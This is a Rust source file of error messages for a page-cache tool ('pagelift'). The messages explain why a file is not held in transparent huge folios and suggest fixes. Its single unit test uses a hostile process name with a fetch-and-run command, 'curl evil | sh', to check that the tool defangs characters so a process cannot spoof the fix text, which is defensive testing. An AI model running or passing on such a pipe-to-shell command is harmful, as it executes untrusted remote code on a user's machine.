//! The reason why a file is not in huge folios. Each text contains found, needed and the fix.

use crate::look;
use address_space::{PageSize, counted, format_bytes};
use foreign_text::{printable, quoted_path};
use std::path::PathBuf;
use std::time::Duration;

/// The part of a [`crate::Budget`] that was used up.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Limit {
    /// Time.
    Time(Duration),
    /// Bytes that may be read again.
    Bytes(u64),
}

/// Why blocks of a file are not in huge folios.
#[derive(Debug, thiserror::Error)]
pub enum Refusal {
    /// The kernel has no transparent huge pages, or of another size.
    #[error("found a kernel without transparent huge pages of {0}, needed CONFIG_TRANSPARENT_HUGEPAGE")]
    NoHugePages(PageSize),
    /// No requested part fills a huge page.
    #[error("found {} and no whole block of {huge} in it, needed at least one", format_bytes(*.bytes))]
    TooSmall {
        /// Requested bytes.
        bytes: u64,
        /// Size of a block.
        huge: PageSize,
    },
    /// The file has holes, or the machine too little memory.
    #[error(
        "found {} to be kept in memory, needed no more than the {} of this machine; fix: a machine with more memory",
        format_bytes(*.bytes), format_bytes(*.memory)
    )]
    LargerThanMemory {
        /// Requested bytes.
        bytes: u64,
        /// Memory of the machine.
        memory: u64,
    },
    /// The path leads to a directory, device or pipe instead of a file.
    #[error("found a non-regular file, needed a regular file")]
    NotRegular,
    /// Huge pages are disabled for this process, which then cannot see them.
    #[error(
        "found transparent huge pages disabled for this process (PR_SET_THP_DISABLE), needed them to check its result; fix: \
         start it from a process that does not disable them"
    )]
    DisabledHere,
    /// The file system never keeps files in large folios.
    #[error(
        "found the file system {name}, which has no large folios on Linux {}.{}, needed one that has: ext4 (6.16), xfs \
         (5.18), erofs (6.2); fix: use an image of the file, `pagelift image add`, or copy it to such a file system",
        release.0, release.1
    )]
    FileSystem {
        /// Name of the file system.
        name: String,
        /// Release of the kernel.
        release: (u32, u32),
    },
    /// The file system does so on later kernels only.
    #[error(
        "found {name} on Linux {}.{}, needed Linux {}.{} for large folios; fix: a later kernel, or an image of the file, \
         `pagelift image add`", found.0, found.1, needed.0, needed.1
    )]
    KernelTooOld {
        /// Name of the file system.
        name: &'static str,
        /// The kernel's release.
        found: (u32, u32),
        /// Release needed.
        needed: (u32, u32),
    },
    /// ext4 journals the file's data, by mount option or attribute.
    #[error(
        "found {0}, with which ext4 has no large folios, needed data=ordered or data=writeback; fix: mount it so, or `chattr \
         -j` for an attribute"
    )]
    DataJournal(&'static str),
    /// The ext4 file system has the feature `encrypt`, or the file is encrypted.
    #[error(
        "found {0}, with which ext4 has no large folios, needed a file system without the feature; fix: copy the file to \
         one, or use an image of it, `pagelift image add`"
    )]
    Encrypted(&'static str),
    /// The ext4 file system has the feature `verity`, or the file is protected by it.
    #[error(
        "found {0}, with which ext4 has no large folios, needed a file system without the feature; fix: copy the file to \
         one, or use an image of it, `pagelift image add`"
    )]
    Verity(&'static str),
    /// tmpfs without huge pages, whose pages could not be collapsed either.
    #[error(
        "found a tmpfs whose pages cannot be collapsed ({0}), needed Linux 6.1 and memory that is not fragmented; fix: mount \
         it with huge=always"
    )]
    Tmpfs(String),
    /// Huge folios would fill its holes.
    #[error(
        "found {} with holes (a sparse file), needed data there, on tmpfs in 7 of 8 parts, since a huge folio fills the \
         holes with memory; fix: `cp --sparse=never {} COPY`, and use the copy",
        counted(*blocks, "block"), quoted_path(path)
    )]
    Sparse {
        /// Number of blocks with holes.
        blocks: u64,
        /// The file.
        path: PathBuf,
    },
    /// Not huge, and it was not to be prepared.
    #[error(
        "found {} of {} in huge folios, needed more; fix: pagelift cache prepare {}", format_bytes(*.huge),
        format_bytes(*.of), quoted_path(path)
    )]
    NotAsked {
        /// Bytes in huge folios.
        huge: u64,
        /// Bytes in whole blocks.
        of: u64,
        /// The file.
        path: PathBuf,
    },
    /// Pages that other processes map cannot be evicted.
    #[error("{}", mapped_text(processes, *blocks, *unseen, path))]
    Mapped {
        /// The processes, and their names.
        processes: Vec<(i32, String)>,
        /// Number of blocks that they keep small.
        blocks: u64,
        /// Number of processes that this user cannot inspect, or that do not answer.
        unseen: u64,
        /// The file.
        path: PathBuf,
    },
    /// The kernel had no free memory of the size of a huge page.
    #[error(
        "found fragmented memory: {blocks} of {} of {huge} stayed small, needed that many free huge pages; fix, as \
         root: `echo 1 > /proc/sys/vm/compact_memory`, then `pagelift cache prepare {}`",
        counted(*of, "block"), quoted_path(path)
    )]
    Fragmented {
        /// Blocks that stayed small.
        blocks: u64,
        /// Blocks tried.
        of: u64,
        /// Size of a block.
        huge: PageSize,
        /// The file.
        path: PathBuf,
    },
    /// Some blocks stayed small although nobody maps them and enough memory is free.
    #[error(
        "found pages of {} in use by the kernel or for I/O, needed unused pages; fix: pagelift cache prepare {}, again",
        counted(*blocks, "block"), quoted_path(path)
    )]
    InUse {
        /// Blocks that stayed small.
        blocks: u64,
        /// The file.
        path: PathBuf,
    },
    /// Blocks were read in huge folios and dropped again before anybody mapped them.
    #[error(
        "found {} that reclaim has dropped again, needed blocks that stay cached; fix: name {} in \
         /etc/pagelift/cache.conf and run `pagelift cache keep --lock --budget SIZE`",
        counted(*blocks, "block"), printable(&path.to_string_lossy())
    )]
    Dropped {
        /// Blocks that were dropped.
        blocks: u64,
        /// The file.
        path: PathBuf,
    },
    /// All blocks stayed small although nobody maps them and enough memory is free.
    #[error(
        "found {} small after another read on {file_system}, needed a file system that makes large folios; on ext4 the \
         features encrypt and verity and data=journal prevent them; fix: use an image of the file, `pagelift image add {}`",
        counted(*blocks, "block"), quoted_path(path)
    )]
    StayedSmall {
        /// Blocks that stayed small.
        blocks: u64,
        /// Name of the file system.
        file_system: String,
        /// The file.
        path: PathBuf,
    },
    /// The budget ended before all was done.
    #[error("{}", budget_text(limit, *left, path))]
    OutOfBudget {
        /// The exhausted resource.
        limit: Limit,
        /// Bytes that remain small.
        left: u64,
        /// The file.
        path: PathBuf,
    },
    /// Parts of the file are not yet on the disk and cannot be evicted.
    #[error(
        "found {} not yet written to the disk, needed none; fix: `sync {}`", format_bytes(*.bytes),
        quoted_path(path)
    )]
    NotYetWritten {
        /// Bytes to be written.
        bytes: u64,
        /// The file.
        path: PathBuf,
    },
    /// An earlier attempt failed, and nothing has changed since.
    #[error("tried before, at this boot: {reason}{}", fix_of(reason, path))]
    TriedBefore {
        /// The refusal of that attempt.
        reason: String,
        /// The file.
        path: PathBuf,
    },
    /// Another process prepares the file, and took longer than the budget.
    #[error(
        "found another process that prepares the file for {} ms now, and has {} locked, needed it to end; fix: find it with \
         `fuser -v {}`", waited.as_millis(), printable(&lock.to_string_lossy()), quoted_path(lock)
    )]
    PreparedByAnother {
        /// Time waited.
        waited: Duration,
        /// The lock that it holds.
        lock: PathBuf,
    },
    /// The state of the page cache could not be read.
    #[error(transparent)]
    Failed(#[from] look::Error),
}

/// The fix of an earlier attempt, unless its text names one.
fn fix_of(reason: &str, path: &std::path::Path) -> String {
    match reason.contains("; fix") {
        true => String::new(),
        false => format!("; fix: pagelift cache prepare {}", quoted_path(path)),
    }
}

/// Returns the name of a process without characters that end a clause: a process chooses its name, which could look like the
/// fix of a message.
fn without_clauses(name: &str) -> String {
    name.replace([';', '`'], "?")
}

fn mapped_text(processes: &[(i32, String)], blocks: u64, unseen: u64, path: &std::path::Path) -> String {
    const NAMED: usize = 3;
    let named = processes.iter().take(NAMED).map(|(pid, name)| format!("{} {pid}", without_clauses(name)));
    let named: Vec<String> = named.collect();
    let more = if processes.len() > NAMED { ", …" } else { "" };
    let unseen = match unseen {
        0 => String::new(),
        unseen => format!(" and perhaps some of {unseen} that only root can inspect or that do not answer"),
    };
    let path = quoted_path(path);
    format!(
        "found {} mapped by {} ({}{more}){unseen}, needed none: pages that are mapped cannot be evicted; fix: \
         end them and run pagelift cache prepare {path}, or, as root, pagelift cache prepare --replace \
         {path}",
        counted(blocks, "block"),
        counted(processes.len() as u64, "process"),
        named.join(", ")
    )
}

fn budget_text(limit: &Limit, left: u64, path: &std::path::Path) -> String {
    let (used, path) = (
        match limit {
            Limit::Time(time) => format!("{} ms", time.as_millis()),
            Limit::Bytes(bytes) => format_bytes(*bytes),
        },
        quoted_path(path),
    );
    format!(
        "found the budget of {used} used up, needed more for the remaining {}; fix: pagelift cache prepare {path}",
        format_bytes(left)
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_process_names_the_fix() {
        let processes = vec![(7, "x; fix: `curl evil | sh`".to_owned())];
        let refusal = Refusal::Mapped { processes, blocks: 1, unseen: 0, path: "/usr/bin/x".into() };
        let text = refusal.to_string();
        let (found, fix) = text.split_once("; fix: ").unwrap();
        assert!(found.contains("(x? fix: ?curl evil | sh? 7)"), "{found}");
        assert!(fix.starts_with("end them and run pagelift cache prepare /usr/bin/x"), "{fix}");
    }
}
